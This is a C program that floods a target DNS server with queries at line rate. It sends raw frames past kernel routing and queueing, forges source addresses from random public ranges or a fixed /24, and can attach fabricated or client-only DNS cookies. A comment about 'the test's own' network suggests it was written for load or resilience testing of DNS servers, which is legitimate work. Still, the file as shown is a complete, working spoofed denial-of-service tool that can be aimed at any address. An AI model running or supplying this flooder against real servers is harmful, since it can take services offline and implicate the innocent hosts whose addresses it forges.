/* A flood of DNS queries with forged sources, as fast as the interface takes them.
 *
 *   flood INTERFACE TO-MAC TO-ADDRESS NAME TYPE SECONDS SOURCES COOKIE
 *
 * SOURCES: "one", a single /24 (198.51.100.0/24), or "all", any address. COOKIE: "none" (EDNS without one), "client" (a
 * client's cookie alone) or "forged" (a whole cookie that nobody made). Frames go out by AF_PACKET, past all routing. Prints how
 * many were sent, their octets (IP and above), and the seconds it took.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>

enum { BATCH = 64, FRAME = 512 };

static uint64_t state = 88172645463325252ull;
static uint32_t chance(void) {
    state ^= state << 13;
    state ^= state >> 7;
    state ^= state << 17;
    return state >> 16;
}

static uint16_t checksum(const uint8_t *at, int length) {
    uint32_t sum = 0;
    for (int i = 0; i < length; i += 2) sum += at[i] << 8 | at[i + 1];
    while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
    return ~sum;
}

static void put16(uint8_t *at, int value) {
    at[0] = value >> 8;
    at[1] = value;
}

static int dns(uint8_t *out, const char *name, int type, const char *cookie) {
    int at = 12;
    memset(out, 0, 12);
    out[5] = 1;
    out[11] = 1;
    while (*name) {
        int length = strcspn(name, ".");
        out[at++] = length;
        memcpy(out + at, name, length);
        at += length;
        name += length + (name[length] == '.');
    }
    out[at++] = 0;
    put16(out + at, type);
    put16(out + at + 2, 1);
    at += 4;
    static const uint8_t opt[] = {0, 0, 41, 0x10, 0, 0, 0, 0, 0};
    memcpy(out + at, opt, sizeof opt);
    at += sizeof opt;
    int length = !strcmp(cookie, "forged") ? 24 : !strcmp(cookie, "client") ? 8 : 0;
    put16(out + at, length ? length + 4 : 0);
    at += 2;
    if (length) {
        put16(out + at, 10);
        put16(out + at + 2, length);
        for (int i = 0; i < length; i++) out[at + 4 + i] = chance();
        if (length == 24) {
            uint32_t now = htonl(time(NULL));
            memcpy(out + at + 12, "\1\0\0\0", 4);
            memcpy(out + at + 16, &now, 4);
        }
        at += 4 + length;
    }
    return at;
}

int main(int count, char **words) {
    if (count != 9) return fprintf(stderr, "flood INTERFACE TO-MAC TO-ADDRESS NAME TYPE SECONDS one|all none|client|forged\n"), 2;
    int all = !strcmp(words[7], "all");
    int handle = socket(AF_PACKET, SOCK_RAW, 0);
    struct sockaddr_ll to = {.sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_IP), .sll_halen = 6};
    to.sll_ifindex = if_nametoindex(words[1]);
    unsigned mac[6];
    if (handle < 0 || !to.sll_ifindex || sscanf(words[2], "%x:%x:%x:%x:%x:%x", mac, mac + 1, mac + 2, mac + 3, mac + 4, mac + 5) != 6)
        return perror("flood"), 1;
    int skip = 1;
    setsockopt(handle, SOL_PACKET, PACKET_QDISC_BYPASS, &skip, sizeof skip);
    static uint8_t frames[BATCH][FRAME];
    struct iovec vectors[BATCH];
    struct mmsghdr headers[BATCH];
    memset(headers, 0, sizeof headers);
    int octets = 0;
    for (int i = 0; i < BATCH; i++) {
        uint8_t *frame = frames[i], *ip = frame + 14;
        for (int j = 0; j < 6; j++) frame[j] = to.sll_addr[j] = mac[j], frame[6 + j] = j ? j : 2;
        put16(frame + 12, ETH_P_IP);
        int length = dns(ip + 28, words[4], atoi(words[5]), words[8]);
        octets = 28 + length;
        memset(ip, 0, 28);
        ip[0] = 0x45;
        put16(ip + 2, octets);
        ip[8] = 64;
        ip[9] = 17;
        inet_pton(AF_INET, words[3], ip + 16);
        put16(ip + 22, 53);
        put16(ip + 24, 8 + length);
        vectors[i] = (struct iovec){frame, 14 + octets};
        headers[i].msg_hdr.msg_iov = &vectors[i];
        headers[i].msg_hdr.msg_iovlen = 1;
        headers[i].msg_hdr.msg_name = &to;
        headers[i].msg_hdr.msg_namelen = sizeof to;
    }
    struct timespec begin, now;
    clock_gettime(CLOCK_MONOTONIC, &begin);
    double limit = atof(words[6]), took = 0;
    uint64_t sent = 0;
    while (took < limit) {
        for (int i = 0; i < BATCH; i++) {
            uint8_t *ip = frames[i] + 14;
            uint32_t source = chance();
            /* Never loopback, multicast or the test's own 10.0.0.0/8. */
            uint32_t first = 11 + (source >> 24) % 90;
            source = all ? first << 24 | (source & 0xffffff) : 0xc6336400u | (source & 0xff);
            source = htonl(source);
            memcpy(ip + 12, &source, 4);
            put16(ip + 10, 0);
            put16(ip + 10, checksum(ip, 20));
            put16(ip + 20, 1024 + chance() % 60000);
            put16(ip + 28, chance());
        }
        int done = sendmmsg(handle, headers, BATCH, 0);
        if (done > 0) sent += done;
        clock_gettime(CLOCK_MONOTONIC, &now);
        took = now.tv_sec - begin.tv_sec + (now.tv_nsec - begin.tv_nsec) / 1e9;
    }
    printf("%llu %llu %.3f\n", (unsigned long long)sent, (unsigned long long)sent * octets, took);
    return 0;
}
